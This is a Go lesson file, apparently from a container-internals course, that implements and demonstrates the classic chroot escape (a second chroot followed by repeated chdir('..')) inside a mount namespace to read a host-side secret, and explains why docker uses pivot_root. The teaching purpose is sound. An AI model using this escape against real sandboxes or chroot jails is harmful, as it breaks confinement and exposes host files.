//go:build linux

package main

import (
	"crypto/rand"
	"errors"
	"fmt"
	"os"

	"golang.org/x/sys/unix"

	"containerkit/02-namespaces/namespace"
	"containerkit/03-rootfs/rootfs"
	"containerkit/lessons/kit/narrate"
	"containerkit/lessons/kit/scratch"
)

// walkOut escapes from a chroot. The attack is as old as chroot, and its man page describes it. The
// kernel stops ".." at the root directory of the process. A second chroot, without the chdir that
// belongs to it, moves the root *below* the working directory. From there ".." never passes the
// root again, and ends only at the top of the mount namespace (chroot(2)).
func walkOut() error {
	const hole = "containerkit-hole"
	if err := os.Mkdir(hole, 0o755); err != nil && !errors.Is(err, os.ErrExist) {
		return err
	}
	if err := unix.Chroot(hole); err != nil {
		return fmt.Errorf("chroot: %w", err)
	}
	return climb()
}

// steps is how often climb goes up: more than enough for any path.
const steps = 64

// climb goes up as far as the kernel lets it, and makes that directory its root.
func climb() error {
	for range steps {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir: %w", err)
		}
	}
	return unix.Chroot(".")
}

type escapeAsk struct {
	Root, Marker string
	Hole         bool // walk out; if false, only climb
}

type escapeAnswer struct{ Before, After string }

var escaping = answering("escaping", func(q escapeAsk) (a escapeAnswer, err error) {
	if err := rootfs.Chroot(q.Root); err != nil {
		return a, err
	}
	a.Before = look(q.Marker)
	out := climb
	if q.Hole {
		out = walkOut
	}
	if err := out(); err != nil {
		return a, err
	}
	a.After = look(q.Marker)
	return a, nil
})

// escape shows that root can escape from a chroot.
func escape(n *narrate.Narrator) error {
	n.Question("How can root escape from a chroot?")
	n.Idea(`The kernel stops ".." at the root directory of a process. A second chroot into a ` +
		`subdirectory, without a chdir, moves the root below the working directory. From there ` +
		`".." never meets the root.`)
	dir, done, err := place(n)
	if err != nil {
		return err
	}
	defer done()
	secret := rand.Text()
	if err := populate(dir.Path, map[string]string{"secret": secret, "root/": ""}); err != nil {
		return err
	}
	ask := escapeAsk{dir.Join("root"), dir.Join("secret"), false}
	only, onlyRoot, err := escapeAndLook(dir, ask)
	if err != nil {
		return err
	}
	n.Control(fmt.Sprintf(`Only "..": a process in a chroot goes up %d times`, steps),
		narrate.Show("/proc/PID/root", onlyRoot),
		narrate.Show("host's …/secret", readable(only.After, secret)))
	n.Do(narrate.Call{
		Text: "Chroot again into a subdirectory, stay outside of it, and go up",
		Sys: [][2]string{{`mkdir("hole")`, ""},
			{`chroot("hole")`, "the root is below the working directory"},
			{`chdir("..")`, fmt.Sprintf("%d times: past the old root, to the top", steps)},
			{`chroot(".")`, "the top becomes the root"}},
		Go:      "walkOut()",
		Man:     "chroot(2)",
		At:      walkOut,
		Without: `Go up with ".." again, without a second chroot`,
	})
	ask.Hole = !n.Without
	a, root, err := escapeAndLook(dir, ask)
	if err != nil {
		return err
	}
	n.Detail(narrate.Show("host's …/secret", a.Before, "before the escape"),
		narrate.Show("host's …/secret", a.After, "after"))
	n.Proof("Root escapes from the chroot", a.After == secret && root == "/",
		narrate.Compare("/proc/PID/root", root, `only ".."`, onlyRoot),
		narrate.Compare("host's …/secret", readable(a.After, secret),
			`only ".."`, readable(only.After, secret)))
	n.Note("This needs CAP_SYS_CHROOT, which docker run grants by default.")
	n.Why("A chroot doesn't confine root, so docker run uses pivot_root.")
	n.ByHand("unshare --user --map-root-user nsenter --root=/usr --wd=/ /bin/ls -d etc home")
	return nil
}

// escapeAndLook runs the attack, and reads the root directory of the process while it still runs.
func escapeAndLook(dir *scratch.Dir, ask escapeAsk) (a escapeAnswer, root string, err error) {
	p, err := start(escaping, namespace.Mount, ask)
	if err != nil {
		return a, "", err
	}
	defer p.Close()
	if err := p.Receive(&a); err != nil {
		return a, "", err
	}
	root, err = link(p.Process.Pid, dir)
	return a, root, err
}
